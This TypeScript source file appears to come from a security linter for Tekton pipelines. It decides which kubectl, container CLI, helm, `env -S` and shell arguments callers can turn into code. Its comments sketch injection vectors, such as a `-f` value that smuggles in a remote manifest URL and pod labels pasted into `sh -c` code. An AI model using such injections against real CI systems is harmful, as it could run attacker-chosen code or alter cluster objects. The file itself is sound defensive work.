/** Options of those commands whose value is a file of objects, a namespace, a selector, a format or a wait condition: data (never a kubeconfig or code). */
const KUBECTL_DATA_OPTIONS = new Set(['-f', '--filename', '-n', '--namespace', '-l', '--selector', '-o', '--output', '--for', '--timeout',
  '-c', '--container', '--field-manager']);

/**
 * The indexes in `argv` of kubectl's arguments at `run` that no caller's value can turn into code: with an inert command
 * (KUBECTL_INERT, the first word that is no option, after none whose value is not known) and no `--`, a word no
 * substitution starts (`/workspace/src/$(params.file)`: it cannot be an option such as `--kubeconfig=…`), after no word one
 * starts, that is an operand or the value of a data option (KUBECTL_DATA_OPTIONS). Empty where any of that is not known.
 */
function kubectlDataArguments(argv: readonly string[], run: Invocation, starts: (text: string) => boolean): Set<number> {
  const out = new Set<number>();
  const words = argv.slice(run.programIndex + 1);
  if (words.includes('--')) return out;
  // the command: the first word that is no option, where every option before it is one without a value (`--v=2`, `-n ns`)
  let command: string | undefined;
  for (let i = 0; i < words.length && command === undefined; i++) {
    const w = words[i];
    if (starts(w)) return out;
    if (!w.startsWith('-')) {command = w;} else if (!w.includes('=')) {
      if (!KUBECTL_DATA_OPTIONS.has(w)) return out;
      i++;
    }
  }
  // (`set image RESOURCE NAME=IMAGE…` sets the image of a container: not `set env`, whose `--from` reads a secret into the object)
  const setsImage = command === 'set' && words.find((w, i) => i > words.indexOf('set') && !w.startsWith('-')) === 'image';
  if (command === undefined || !(KUBECTL_INERT.has(command) || setsImage)) return out;
  for (let i = 0; i < words.length; i++) {
    const w = words[i];
    if (starts(w)) break;
    if (w.startsWith('-')) continue;
    const before = words[i - 1];
    const value = before !== undefined && before.startsWith('-') && !before.includes('=');
    // `-f` is a list of files (kubectl's `AddFilenameOptionFlags`: a pflag StringSlice, split at commas), and kubectl fetches one
    // named http:// or https:// (cli-runtime builder.go `FilenameParam`): a substitution anywhere in it (`/src/$(params.file)` with
    // `a.yaml,https://host/x.yaml`) may add a URL, whose objects kubectl then writes (apply, create, replace) or deletes as the
    // step's account (`logs -f` follows: its next word is an operand)
    const url = value && (before === '-f' || before === '--filename') && command !== 'logs' && (w.includes('$(') || WHOLE_ARRAY_ANYWHERE.test(w));
    if ((!value || KUBECTL_DATA_OPTIONS.has(before)) && !url) out.add(run.programIndex + 1 + i);
  }
  return out;
}

/** The container CLIs whose commands below run no container and no build (they copy, name, list, read or remove images, or log in). */
const CONTAINER_CLIS: ReadonlySet<string> = new Set(['docker', 'podman', 'nerdctl']);
const CONTAINER_CLI_INERT: ReadonlySet<string> = new Set(['pull', 'push', 'tag', 'images', 'inspect', 'rmi', 'login', 'logout', 'version', 'info']);

/**
 * The indexes in `argv` of the arguments of docker, podman or nerdctl at `run` that no caller's value can turn into code: with
 * an inert command (CONTAINER_CLI_INERT: the first word that is no option, after only options written with their value,
 * `--storage-driver=vfs`) and no `--`, each word that is no option and that no substitution starts (`docker://registry/app:$(params.tag)`:
 * it cannot be an option), after no word one starts. Empty where any of that is not known.
 */
function containerCliDataArguments(argv: readonly string[], run: Invocation, starts: (text: string) => boolean): Set<number> {
  const out = new Set<number>();
  const words = argv.slice(run.programIndex + 1);
  if (words.includes('--')) return out;
  const at = words.findIndex((w) => !w.startsWith('-') || !w.includes('='));
  const command = at < 0 ? undefined : words[at];
  if (command === 'build') return dataOptionValues(argv, run.programIndex + 1 + at + 1, BUILD_OPTIONS);
  if (command === undefined || starts(command) || !CONTAINER_CLI_INERT.has(command)) return out;
  for (let i = at + 1; i < words.length; i++) {
    const w = words[i];
    if (starts(w)) break;
    if (!w.startsWith('-')) out.add(run.programIndex + 1 + i);
  }
  return out;
}

/**
 * The options of a command (cobra's pflag: options go on after its operands) that take a value and whose value is data (`data`), or
 * that take one that may name code (`valued`), and those that take none (`flags`).
 */
interface DataOptions {
  readonly data: ReadonlySet<string>;
  readonly valued: ReadonlySet<string>;
  readonly flags: ReadonlySet<string>;
}

/**
 * docker, podman and nerdctl `build`: the image's name (`-t`, `--tag`), a label and the platform are data: the build's code is its
 * context and Dockerfile (`-f`, the operand), and a `--build-arg`, which a Dockerfile may use to choose its base image (`FROM ${BASE}`)
 * or run, is read as code with them.
 */
const BUILD_OPTIONS: DataOptions = {
  data: new Set(['-t', '--tag', '--label', '--platform']),
  valued: new Set(['-f', '--file', '--build-arg', '--target', '--cache-from', '--cache-to', '--secret', '--ssh', '--network', '--iidfile', '--output', '-o',
    '--progress', '--builder', '--build-context', '--authfile', '--format']),
  flags: new Set(['--no-cache', '--pull', '-q', '--quiet', '--rm', '--force-rm', '--load', '--push', '--squash', '--tls-verify', '--layers']),
};

/**
 * helm `install`, `upgrade` and `template`: the values it renders the chart's templates with (`--set`, `--set-string`, `--set-json`; no
 * template runs a program), the chart's version (one its repository publishes) and the namespace are data; the chart, a values file, a
 * post-renderer (a program helm runs) and a kubeconfig are read as code.
 */
const HELM_OPTIONS: DataOptions = {
  data: new Set(['--set', '--set-string', '--set-json', '--version', '-n', '--namespace', '--timeout', '--description']),
  valued: new Set(['-f', '--values', '--set-file', '--post-renderer', '--post-renderer-args', '--kubeconfig', '--kube-context', '--repo', '--username', '--password',
    '--ca-file', '--cert-file', '--key-file', '--keyring', '--history-max', '--registry-config', '--repository-config', '--repository-cache']),
  flags: new Set(['-i', '--install', '--atomic', '--wait', '--wait-for-jobs', '--create-namespace', '--force', '--reset-values', '--reuse-values', '--debug',
    '--cleanup-on-fail', '--devel', '--skip-crds', '--no-hooks', '--dependency-update', '--insecure-skip-tls-verify', '--dry-run']),
};

/**
 * The indexes in `argv`, from `from` on, of the values of the data options of `options` (pflag takes an option's value from the next
 * argument whatever it is, `-t $(params.image)`, or after `=`), up to `--`, an option not known (whether it takes the next argument is
 * not known) or a word a substitution starts outside such a value (it may be an option); an element expanded from an array (no
 * argument or several) ends them too.
 */
function dataOptionValues(argv: readonly string[], from: number, options: DataOptions): Set<number> {
  const out = new Set<number>();
  for (let i = from; i < argv.length; i++) {
    const w = argv[i];
    if (w === '--' || w.startsWith('$(') || WHOLE_ARRAY_ANYWHERE.test(w)) break;
    if (!w.startsWith('-')) continue;
    const eq = w.indexOf('=');
    const name = eq < 0 ? w : w.slice(0, eq);
    if (options.data.has(name)) {
      if (eq >= 0) {
        out.add(i);
        continue;
      }
      if (i + 1 >= argv.length || WHOLE_ARRAY_ANYWHERE.test(argv[i + 1])) break;
      out.add(++i);
    } else if (options.valued.has(name)) {
      if (eq < 0) i++;
    } else if (eq < 0 && !options.flags.has(name)) {
      break;
    }
  }
  return out;
}

/** The indexes in `argv` of the data of helm at `run` (HELM_OPTIONS) for `install`, `upgrade` or `template`, its first word. */
function helmDataArguments(argv: readonly string[], run: Invocation): Set<number> {
  const command = argv[run.programIndex + 1];
  return ['install', 'upgrade', 'template'].includes(command) ? dataOptionValues(argv, run.programIndex + 2, HELM_OPTIONS) : new Set();
}

/** An element of an array param expanded anywhere in a word (`x$(params.list[*])`), which may give several words. */
const WHOLE_ARRAY_ANYWHERE = /\$\([^()]*\[\s*\*\s*\]\s*\)/;

/**
 * The `$(NAME)` of a run's label (see labelReferences) in the string of `env -S` that `run` reads (Invocation.splitStrings), where
 * a word picks what runs once env splits the string into words at blanks outside quotes (a label's value is one word with
 * neither): the program's word, a word before it (env's options and their values, a wrapper's arguments, an assignment to an
 * env var programs run as code, executing-env.ts), and any word after an interpreter named there (its code, as the arguments
 * of an interpreter in argv are). Other words are the program's arguments: data as in argv.
 */
function splitStringLabels(
  argv: readonly string[], run: Invocation, labels: ReadonlyMap<string, string>, copies: ReadonlyMap<string, LabelCopy>,
): Array<{ index: number; label: LabelReference; how: string; code: boolean }> {
  const out: Array<{ index: number; label: LabelReference; how: string; code: boolean }> = [];
  if (run.program === undefined) return out;
  for (const i of run.splitStrings) {
    const found = labelReferences(argv[i], labels, copies);
    if (found.length === 0 || run.programIndex < i) continue;
    const { words, program, operand, shell } = splitStringWords(argv, i, run);
    for (const label of found) {
      const k = words.findIndex((w) => label.index >= w.from && label.index < w.to);
      if (k < 0) continue;
      const eq = words[k].word.indexOf('=');
      const assigned = k < program && eq > 0 && !words[k].word.startsWith('-') && label.index >= words[k].from + eq;
      if (k === program) {
        out.push({ index: i, label, how: 'it names the program env runs', code: false });
      } else if (k < program && !(assigned && executingEnv(words[k].word.slice(0, eq)) === undefined)) {
        const how = assigned ? `it sets ${words[k].word.slice(0, eq)}, which ${executingEnv(words[k].word.slice(0, eq))}`
          : 'env reads it before the program (an option, its value or a wrapper\'s argument), where a word chooses what runs';
        out.push({ index: i, label, how, code: false });
      } else if (k > program && run.interpreter && (!shell || k <= operand)) {
        out.push({ index: i, label, how: `it reaches the arguments of ${basename(run.program)}, which runs them as code`, code: true });
      }
    }
  }
  return out;
}

/**
 * The words of the string of `env -S` at `argv[i]` (alone, `-S STRING`, `--split-string STRING`, or attached to its option,
 * `-iSSTRING`, `--split-string=STRING`), unquoted, with where each stands in the argument: where the string starts, the
 * program's word (where the string names it, else every word is before it), and, for a shell, its code's (or file's) word:
 * the first operand after its options; the words after it are $0 and the positional parameters, data unless the code runs
 * them as code (envRunAsCode reads them so).
 */
function splitStringWords(argv: readonly string[], i: number, run: Invocation): {
  start: number; words: Array<{ from: number; to: number; word: string }>; program: number; operand: number; shell: boolean;
} {
  const text = argv[i];
  const alone = i > 0 && (/^-[A-Za-z]*S$/.test(argv[i - 1]) || /^--s[a-z-]*$/.test(argv[i - 1]));
  const start = alone ? 0 : text.startsWith('--') ? text.indexOf('=') + 1 : text.indexOf('S') + 1;
  const words = [...text.slice(start).matchAll(/(?:"[^"]*"|'[^']*'|[^\s"']+)+/g)].map((m) => ({
    from: start + m.index!, to: start + m.index! + m[0].length, word: m[0].replace(/"([^"]*)"|'([^']*)'/g, '$1$2'),
  }));
  const program = run.programIndex === i ? words.findIndex((w) => w.word === run.program) : words.length;
  let operand = program + 1;
  while (operand < words.length && /^[-+]/.test(words[operand].word)) operand++;
  return { start, words, program, operand, shell: SHELL_WORD.test(basename(run.program ?? '')) };
}

/**
 * The `${NAME}` of an env var of `names` in the string of env -S that GNU env replaces with its value (coreutils env.c,
 * build_argv: outside single quotes, appended to the word it stands in, never split): where it names the program, where env
 * reads it before the program (an option, its value, a wrapper's argument, an assignment to an env var that runs as a command),
 * where it is an interpreter's code (a shell's `-c` code or the script it reads; any argument of another interpreter).
 */
function splitStringExpansions(
  argv: readonly string[], run: Invocation, names: ReadonlySet<string>,
): Array<{ index: number; name: string; how: string; code: boolean }> {
  const out: Array<{ index: number; name: string; how: string; code: boolean }> = [];
  if (run.program === undefined) return out;
  for (const i of run.splitStrings) {
    if (run.programIndex < i) continue;
    const text = argv[i];
    const { start, words, program, operand, shell } = splitStringWords(argv, i, run);
    const found: Array<{ at: number; name: string }> = [];
    let single = false;
    let double = false;
    for (let k = start; k < text.length; k++) {
      if (text[k] === '\\' && !single) {k++;} else if (text[k] === "'" && !double) {single = !single;} else if (text[k] === '"' && !single) {double = !double;} else if (text[k] === '$' && !single) {
        const m = /^\$\{([A-Za-z_][A-Za-z0-9_]*)\}/.exec(text.slice(k));
        if (m !== null && names.has(m[1])) found.push({ at: k, name: m[1] });
      }
    }
    if (found.length === 0) continue;
    for (const { at, name } of found) {
      const k = words.findIndex((w) => at >= w.from && at < w.to);
      if (k < 0) continue;
      const eq = words[k].word.indexOf('=');
      const assigned = k < program && eq > 0 && !words[k].word.startsWith('-');
      if (k === program) {
        out.push({ index: i, name, how: 'it names the program env runs', code: false });
      } else if (k < program && !(assigned && executingEnv(words[k].word.slice(0, eq)) === undefined)) {
        const how = assigned ? `it sets ${words[k].word.slice(0, eq)}, which ${executingEnv(words[k].word.slice(0, eq))}`
          : 'env reads it before the program (an option, its value or a wrapper\'s argument), where a word chooses what runs';
        out.push({ index: i, name, how, code: false });
      } else if (k > program && run.interpreter && (!shell || k === operand)) {
        out.push({ index: i, name, how: `it reaches the ${shell ? 'code' : 'arguments'} of ${basename(run.program)}, which runs ${shell ? 'it' : 'them'} as code`, code: true });
      }
    }
  }
  return out;
}

/** The POSIX-like shells (shell.ts SHELL_NAMES). */
const SHELL_WORD = /^(sh|bash|dash|ash|zsh|ksh|mksh|pdksh|yash|rbash)$/;

/**
 * The words after the code of `sh -c CODE NAME ARG…` written in the string of env -S (split at blanks outside quotes, quotes
 * removed, as coreutils env.c splits it): NAME ($0) and the ARGs; none where the code is not in the string.
 */
function splitShellParameters(text: string, program: string): string[] {
  const words = (text.match(/(?:"[^"]*"|'[^']*'|[^\s"']+)+/g) ?? []).map((w) => w.replace(/"([^"]*)"|'([^']*)'/g, '$1$2'));
  const at = words.findIndex((w) => w === program || basename(w) === basename(program));
  let code = at + 1;
  while (code < words.length && /^[-+][A-Za-z]+$/.test(words[code])) code++;
  return at < 0 || code >= words.length ? [] : words.slice(code + 1);
}

/** What holds a copy's first label (see LabelCopy): `holds $(C), into which the kubelet expanded $(TOOL), which it fills from …`. */
function copyHolds(copy: LabelCopy): string {
  const [label, { path, via }] = [...copy.through][0];
  const chain = [...via, label];
  return `holds $(${chain[0]})${chain.slice(1).map((n) => `, into which the kubelet expanded $(${n})`).join('')}, which the kubelet fills from valueFrom.fieldRef ${path}`;
}

/**
 * Where the value of a label's `$(NAME)` comes from: `which the kubelet fills from valueFrom.fieldRef …`, or, for an env var that
 * copies it, `into which the kubelet expanded $(TOOL), which it fills from …`.
 */
function labelSource(label: LabelReference): string {
  if (label.copies === undefined) return `which the kubelet fills from valueFrom.fieldRef ${label.path}`;
  const chain = [...label.copies.through, label.copies.label].map((n) => `$(${n})`);
  return `into which the kubelet expanded ${chain.join(', into which it expanded ')}, which it fills from valueFrom.fieldRef ${label.path}`;
}

/**
 * The env vars filled from a run's label whose `$(NAME)` the kubelet expands into the code of `sh -c` in `command` and `args`
 * and that the code then runs as code: one word of letters, digits, `-`, `_` and `.`, the API server checks, so only where
 * a word runs (the program a command runs, `eval`'s words, the code of `sh -c` …), not bash's readings of shell syntax. One
 * finding per variable, at the first command that runs it.
 */
function labelsRunAsCode(places: readonly ShellCode[], env: readonly any[], envFrom = false): Array<Omit<Problem, 'location' | 'target'>> {
  if (places.length === 0) return [];
  const { labels, copies } = labelEnv(env);
  if (labels.size === 0) return [];
  const reported = new Set<string>();
  // each label's value by the env var whose $(NAME) is written (the label's, or a copy's), a variable of its own
  const keys: string[] = [];
  const names = new Map<string, { written: string; label: string; path: string; via: readonly string[] }>();
  const placeholder = (written: string, label: string, path: string, via: readonly string[]) => {
    const key = `${written}\u0000${label}`;
    if (!keys.includes(key)) keys.push(key);
    const p = `__kubelet_label_${keys.indexOf(key)}_`;
    names.set(p, { written, label, path, via });
    return `\${${p}}`;
  };
  // each copy's text as pasted, by the `$(NAME)` written in its place (messages quote the code as written)
  const pastedCopies = new Map<string, string>();
  // (the step's env, whose literal values the code's shell expands in a word, and the shell that runs the code, which reads bash's
  // `${V:1}`, `${V,,}`, `${V/x/i}` as it does: as the env vars' readings, envRunAsCode)
  const literal = fixedEnvValues(env);
  const unknown = [...new Set(env.filter((e: any) => typeof e?.name === 'string' && !literal.has(e.name)).map((e: any) => e.name as string))];
  const posixly = env.some(envSetsPosixMode);
  return places.flatMap(({ property, code, shell }) => {
    // the code as the kubelet pastes it: each label's `$(NAME)` a variable of its own, a copy's text with its labels' so, `$$` one `$`
    let text = '';
    for (let i = 0; i < code.length; i++) {
      const close = code[i] === '$' && code[i + 1] === '(' ? code.indexOf(')', i + 2) : -1;
      const name = close < 0 ? undefined : code.slice(i + 2, close);
      const copy = name === undefined ? undefined : copies.get(name);
      if (name !== undefined && labels.has(name)) {
        text += placeholder(name, name, labels.get(name)!, []);
        i = close;
      } else if (name !== undefined && copy !== undefined) {
        // a copy's text as the kubelet wrote it: `$$` one `$`, `$(L)` the label's value
        const from = text.length;
        const refs = kubeletReferences(copy.text);
        for (let k = 0; k < copy.text.length; k++) {
          const label = refs.get(k);
          if (label !== undefined) {
            const { path, via } = copy.through.get(label)!;
            text += placeholder(name, label, path, via);
            k += label.length + 2;
          } else {
            text += copy.text[k];
            if (copy.text[k] === '$') k++;
          }
        }
        pastedCopies.set(text.slice(from), `$(${name})`);
        i = close;
      } else if (code[i] === '$' && code[i + 1] === '$') {
        text += '$';
        i++;
      } else if (name !== undefined) {
        text += code.slice(i, close + 1);
        i = close;
      } else {
        text += code[i];
      }
    }
    const here = [...names.keys()].filter((p) => text.includes(p));
    if (here.length === 0) return [];
    const sinks = variablesRunAsCode(text, new Set(here), undefined, posixly, literal, unknown, shell, envFrom);
    return sinks.filter((sink) => sink.syntax !== true).flatMap((sink) => {
      const { written, label, path, via } = names.get(sink.origin)!;
      if (reported.has(written)) return [];
      reported.add(written);
      const shown = (t: string) => [...pastedCopies].sort(([a], [b]) => b.length - a.length)
        .reduce((line, [pasted, asWritten]) => line.split(pasted).join(asWritten), t).replace(/\$\{__kubelet_label_[0-9]+_\}|__kubelet_label_[0-9]+_/g, (p) => `$(${names.get(p.replace(/^\$\{|\}$/g, ''))!.written})`);
      const copied = written === label ? '' : `, expands into the value of ${[written, ...via].join(', then of ')}`;
      return [{
        property,
        value: shown(sink.line),
        problem: `runs as code the value of env var ${label}, which the kubelet fills from valueFrom.fieldRef ${path}, which callers choose `
          + `(a word, which can name a program)${copied}, and pastes into the code where $(${written}) is written: ${sink.how}`,
        fix: `Write "$${written}" (the shell's own expansion, quoted) instead of $(${written}), as an argument of a fixed command, never as the command or code.`,
      }];
    });
  });
}

/**
 * The programs `argv` may run through a shell whose code runs its positional parameters as a command (positionalCommand:
 * `sh -c 'exec "$@"' NAME PROGRAM ARG…`, a shell script `"$@"` whose args are PROGRAM ARG…), each with its indexes in `argv`.
 */
function positionalRuns(argv: readonly string[], runs: readonly Invocation[], script: string | undefined): Invocation[] {
  const starts: number[] = [];
  if (script !== undefined && readsAsShell(interpreterOf(script)?.words ?? [])) {
    starts.push(...positionalCommand(script).map((from) => from - 1));
  }
  for (const run of runs) {
    const code = shellCommandString(argv, run);
    const data = code === undefined ? undefined : shellDataIndex(argv, run);
    if (data !== undefined) starts.push(...positionalCommand(code!).map((from) => data + from));
  }
  return [...new Set(starts)].filter((at) => at < argv.length).flatMap((at) => invocations(argv.slice(at)).map((run) => ({
    ...run,
    programIndex: run.programIndex + at,
    assignments: run.assignments.map((a) => ({ ...a, index: a.index + at })),
    splitStrings: run.splitStrings.map((i) => i + at),
    ...run.commandAt === undefined ? {} : { commandAt: run.commandAt + at },
  })));
}

/** Shell code of a container, with the arguments it gets as its positional parameters (`$0` … by position) and their places. */
/**
 * How many of a shell's positional parameters are surely empty, leading from `$1`: each an empty argument (`''` in `command`),
 * after a `$0` that holds no substitution (one field), so the shell drops them where it expands them unquoted.
 */
function leadingEmpty(parameters: ShellCode['parameters']): number {
  if (!parameters.some((p) => p.text === '')) return 0;
  const at = new Map(parameters.map((p) => [p.position, p.text]));
  if (at.get(0)?.includes('$(') === true) return 0;
  let m = 0;
  while (at.get(m + 1) === '') m++;
  return m;
}

interface ShellCode {
  readonly property: string;
  readonly code: string;
  /** The name of the shell that runs it (`dash`, `sh`, `bash` …), which expands its words. */
  readonly shell?: string;
  /** Whether the code is a word of the string of env -S (`env -S "sh -c 'CODE'"`), not an argument of its own. */
  readonly split?: boolean;
  readonly parameters: ReadonlyArray<{ readonly position: number; readonly origin: string; readonly text: string }>;
}

/** The first occurrence of each substitution, with how often the text holds it. */
function distinct<T extends { readonly text: string }>(found: T[]): Array<T & { readonly times: number }> {
  const times = new Map<string, number>();
  for (const f of found) times.set(f.text, (times.get(f.text) ?? 0) + 1);
  const seen = new Set<string>();
  return found.filter((f) => {
    if (seen.has(f.text)) return false;
    seen.add(f.text);
    return true;
  }).map((f) => ({ ...f, times: times.get(f.text)! }));
}

/** ` (3 times)` for a substitution written more than once in its place. */
const timesText = (times: number): string => (times > 1 ? ` (${times} times)` : '');

/**
 * Substitutions that callers can choose reach code only as data: in scripts and the arguments of
 * interpreters (see CONTAINERS), and in the CEL `when` expressions of steps and pipeline tasks.
 */
export const SCRIPT_INJECTION: IRule = {
  ...CONTAINERS,
  appliesTo: (m) => CONTAINERS.appliesTo(m) || pipelineSpecsOf(m).length > 0,
  check: (manifest, context) => [
    ...CONTAINERS.check(manifest, context),
    // a step that runs a StepAction keeps its own `when` (Tekton resolves the StepAction into the step), substituted as the step is
    ...containersOf(manifest).filter(runsStepAction).flatMap((v) => celWhens(v.container.when, runFixedReferences(v)).map((p) => ({
      rule: RuleId.SCRIPT_INJECTION,
      kind: jsString(manifest?.kind ?? ''),
      name: objectName(manifest),
      location: v.location,
      target: v.target,
      ...p,
    }))),
    ...pipelineSpecsOf(manifest).flatMap(({ prefix, targetPrefix, spec, runParams }) => {
      // Tekton substitutes a pipeline task's `when` at the pipeline level: the run's params and the pipeline's defaults
      const fixed = pipelineFixedReferences(runParams, spec?.params);
      return [...asArray(spec?.tasks), ...asArray(spec?.finally)].flatMap((t) => celWhens(t?.when, fixed).map((p) => ({
        rule: RuleId.SCRIPT_INJECTION,
        kind: jsString(manifest?.kind ?? ''),
        name: objectName(manifest),
        location: `${prefix}task '${jsString(t?.name)}'`,
        target: `${targetPrefix}task/${jsString(t?.name)}`,
        ...p,
      })));
    }),
  ],
};
